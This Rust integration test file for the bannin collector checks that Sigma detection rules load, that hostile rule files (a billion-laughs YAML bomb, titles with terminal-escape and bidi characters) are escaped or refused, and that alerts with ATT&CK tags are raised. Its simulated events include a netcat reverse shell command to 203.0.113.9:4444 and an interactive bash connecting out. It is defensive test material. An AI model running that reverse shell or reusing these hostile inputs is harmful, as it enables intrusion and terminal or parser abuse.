//! Issue 15: public Sigma rules as published. `rules check` reports each rule of a directory, loaded
//! or the one reason it cannot run, and escapes what hostile rule files put in their names; a
//! collector started with `[detection] rule_dirs` logs the same report and raises the rules'
//! alerts, title and ATT&CK tags included, from events a (simulated) agent sends over the real
//! protocol.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use bannin::event::{
    Ancestor, Body, NetAction, NetEvent, ProcessAction, ProcessEvent, ProcessInfo,
};
use bannin::time::Timestamp;
use serde_json::Value;

use crate::harness::*;
use crate::sim::SimAgent;

fn test_rules() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sigma/rules")
}

fn check(path: &Path) -> (Option<i32>, String, String) {
    let out = run_output(Command::new(COLLECTOR).args(["rules", "check"]).arg(path));
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn rules_check_reports_each_rule_and_exits_by_the_outcome() {
    // Every test rule in the standard taxonomy loads.
    let (code, out, _) = check(&test_rules());
    assert_eq!(code, Some(0), "{out}");
    assert!(out.ends_with("20 rules loaded, 0 cannot run\n"), "{out}");
    assert!(
        out.lines().any(|l| l.starts_with("loaded   ")
            && l.contains("proc_creation_lnx_test_netcat_exec.yml")
            && l.ends_with("Netcat Executes a Program (bannin test)")),
        "{out}"
    );

    // A directory as the public repository holds it: rules bannin runs beside rules it cannot,
    // and files an attacker wrote.
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("rules");
    std::fs::create_dir_all(dir.join("linux/process_creation")).unwrap();
    std::fs::create_dir_all(dir.join("windows")).unwrap();
    std::fs::create_dir_all(dir.join(".github")).unwrap();
    std::fs::copy(
        test_rules().join("process_creation/proc_creation_lnx_test_netcat_exec.yml"),
        dir.join("linux/process_creation/netcat.yml"),
    )
    .unwrap();
    std::fs::write(
        dir.join("windows/cmd.yml"),
        "title: cmd\nid: w1\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Image|endswith: '\\cmd.exe'\n    condition: sel\n",
    )
    .unwrap();
    std::fs::write(dir.join(".github/workflow.yml"), "on: push\n").unwrap();
    // A title and id that would retitle the terminal and reorder the line if printed raw.
    std::fs::write(
        dir.join("linux/process_creation/evil.yml"),
        "title: \"x\\e]0;pwned\\a\"\nid: \"id\\u202e\\n\"\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n",
    )
    .unwrap();
    // Billions of values behind a few aliases, and bytes that are not UTF-8.
    let mut laughs = String::from(
        "title: lol\nid: lol\nx0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n",
    );
    for i in 1..10 {
        let p = i - 1;
        laughs.push_str(&format!(
            "x{i}: &x{i} [*x{p}, *x{p}, *x{p}, *x{p}, *x{p}, *x{p}, *x{p}, *x{p}, *x{p}, *x{p}]\n"
        ));
    }
    std::fs::write(dir.join("linux/laughs.yml"), laughs).unwrap();
    std::fs::write(dir.join("linux/latin1.yml"), b"title: caf\xe9\n").unwrap();
    let (code, out, err) = check(&dir);
    assert_eq!(code, Some(1), "{out}{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 6, "{out}");
    assert!(
        !out.contains('\x1b') && !out.contains('\x07') && !out.contains('\u{202e}'),
        "{out:?}"
    );
    assert!(
        lines[0].contains("latin1.yml") && lines[0].ends_with("cannot read: not UTF-8 (byte 10)"),
        "{out}"
    );
    assert!(
        lines[1].starts_with("refused  ")
            && lines[1].contains("laughs.yml")
            && lines[1].contains("repetition limit exceeded"),
        "{out}"
    );
    assert!(
        lines[2].starts_with("loaded   ")
            && lines[2].contains("evil.yml  id\\u{202e}  x\\x1b]0;pwned\\x07"),
        "{out}"
    );
    assert!(
        lines[3].starts_with("loaded   ") && lines[3].contains("netcat.yml"),
        "{out}"
    );
    assert!(
        lines[4].starts_with("refused  ")
            && lines[4]
                .contains("unsupported logsource {product: windows, category: process_creation}"),
        "{out}"
    );
    assert_eq!(lines[5], "2 rules loaded, 3 cannot run");

    // Nothing to check is a usage error on one line, not an empty success.
    let (code, _, err) = check(&tmp.path().join("missing"));
    assert_eq!(code, Some(2));
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("cannot read"), "{err}");
}

fn process(pid: u32, exe: &str, cmdline: &str, parent: &str) -> ProcessInfo {
    ProcessInfo {
        pid,
        ppid: Some(pid - 1),
        exe: exe.into(),
        cmdline: cmdline.into(),
        user: "www-data".into(),
        uid: Some(33),
        ancestry: vec![Ancestor {
            pid: pid - 1,
            exe: parent.into(),
            cmdline: parent.into(),
            user: "www-data".into(),
        }]
        .into(),
    }
}

fn start(who: ProcessInfo) -> Body {
    ProcessEvent {
        action: ProcessAction::Start,
        process: who,
        cwd: "/var/www".into(),
        start_ts: None,
        exit_code: None,
        read_bytes: None,
        write_bytes: None,
        source: "proc_connector".into(),
    }
    .into()
}

#[test]
fn a_collector_with_rule_dirs_alerts_from_public_style_rules_with_their_tags() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("collector");
    let receiver = HttpReceiver::start(0);
    let rules = tmp.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    for name in [
        "process_creation/proc_creation_lnx_test_netcat_exec.yml",
        "process_creation/proc_creation_lnx_test_webserver_shell.yml",
        "network_connection/net_connection_lnx_test_shell_port.yml",
    ] {
        let from = test_rules().join(name);
        std::fs::copy(&from, rules.join(from.file_name().unwrap())).unwrap();
    }
    std::fs::write(
        rules.join("hostname.yml"),
        "title: ngrok\nid: dns-1\nlogsource:\n    product: linux\n    category: network_connection\ndetection:\n    sel:\n        DestinationHostname|endswith: .ngrok.io\n    condition: sel\n",
    )
    .unwrap();
    let config = tmp.path().join("collector.toml");
    private_file(
        &config,
        &format!(
            "[detection]\nrule_dirs = [{:?}]\n\n[[alerts.webhook]]\nurl = {:?}\n",
            rules.display().to_string(),
            receiver.url("/hook")
        ),
    );
    let mut collector = Collector::start_with(
        &data,
        "127.0.0.1:0",
        &["--config", config.to_str().unwrap()],
    );
    // The load report, in the log.
    collector
        .proc
        .wait_line("rule_dirs loaded", Duration::from_secs(30));
    let log = collector.proc.log();
    assert!(log.contains("sigma rule loaded"), "{log}");
    assert!(
        log.contains("sigma rule cannot run") && log.contains("DestinationHostname"),
        "{log}"
    );
    assert!(
        log.contains("loaded=3") && log.contains("refused=1"),
        "{log}"
    );

    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let mut agent = SimAgent::enroll(&collector, "web1").await;
        let now = Timestamp::now();
        let shell = process(
            5001,
            "/usr/bin/ncat",
            "ncat 203.0.113.9 4444 -e /bin/bash",
            "/usr/sbin/apache2",
        );
        let quiet = process(5002, "/usr/bin/ncat", "ncat -l 8080", "/usr/sbin/apache2");
        let callback = NetEvent {
            action: NetAction::Connect,
            process: Some(process(
                5003,
                "/usr/bin/bash",
                "bash -i",
                "/usr/sbin/apache2",
            )),
            protocol: "tcp".into(),
            local_addr: "10.0.0.5".into(),
            local_port: 40_000,
            remote_addr: "203.0.113.9".into(),
            remote_port: 4444,
            remote_scope: "public".into(),
            bytes_sent: None,
            bytes_received: None,
        };
        agent
            .submit_bodies(vec![
                (now, start(quiet)),
                (now, start(shell)),
                (now, callback.into()),
            ])
            .await
            .unwrap();
    });
    let bodies = wait_for(
        "the rules' alerts at the webhook",
        Duration::from_secs(30),
        || {
            let bodies = receiver.bodies("/hook");
            (bodies.len() >= 3).then_some(bodies)
        },
    );
    let by_title = |title: &str| -> Value {
        bodies
            .iter()
            .find(|b| b["title"] == title)
            .unwrap_or_else(|| panic!("no alert titled {title}: {bodies:?}"))
            .clone()
    };
    let netcat = by_title("Netcat Executes a Program (bannin test)");
    assert_eq!(netcat["rule"], "cfb00d08-61f4-519b-bb35-39579a130c5f");
    assert_eq!(netcat["severity"], "high");
    assert_eq!(
        netcat["tags"],
        serde_json::json!(["attack.execution", "attack.t1059.004"])
    );
    assert_eq!(netcat["host"], "web1");
    assert_eq!(netcat["cmdline"], "ncat 203.0.113.9 4444 -e /bin/bash");
    assert_eq!(netcat["parent_exe"], "/usr/sbin/apache2");
    let port = by_title("Shell Connects Out to a Common Backdoor Port (bannin test)");
    assert_eq!(port["remote_port"], 4444);
    assert_eq!(
        port["tags"],
        serde_json::json!(["attack.command-and-control", "attack.t1571"])
    );
    // ncat is no shell, and the listener is no netcat -e: nothing else fired but the built-in
    // pack's first-seen destination, which runs beside the directory's rules.
    let mut rules: Vec<&str> = bodies.iter().map(|b| b["rule"].as_str().unwrap()).collect();
    rules.sort();
    assert_eq!(
        rules,
        vec![
            "bfe87b76-444e-55ef-b1b7-f48d2dcb4a47",
            "cfb00d08-61f4-519b-bb35-39579a130c5f",
            "first-seen-public-destination"
        ]
    );

    // The same alert as an OCSF Detection Finding names the analytic and its technique.
    let out = run_ok(
        Command::new(COLLECTOR)
            .args(["alerts", "--format", "ocsf", "--data-dir"])
            .arg(&data),
    );
    let finding: Value = out
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|f| f["finding_info"]["analytic"]["uid"] == "cfb00d08-61f4-519b-bb35-39579a130c5f")
        .unwrap_or_else(|| panic!("{out}"));
    assert_eq!(finding["class_uid"], 2004);
    assert_eq!(
        finding["finding_info"]["analytic"]["name"],
        "Netcat Executes a Program (bannin test)"
    );
    assert_eq!(
        finding["finding_info"]["attacks"],
        serde_json::json!([{
            "technique": {"uid": "T1059"},
            "sub_technique": {"uid": "T1059.004"},
            "tactic": {"uid": "TA0002", "name": "Execution"}
        }])
    );
}
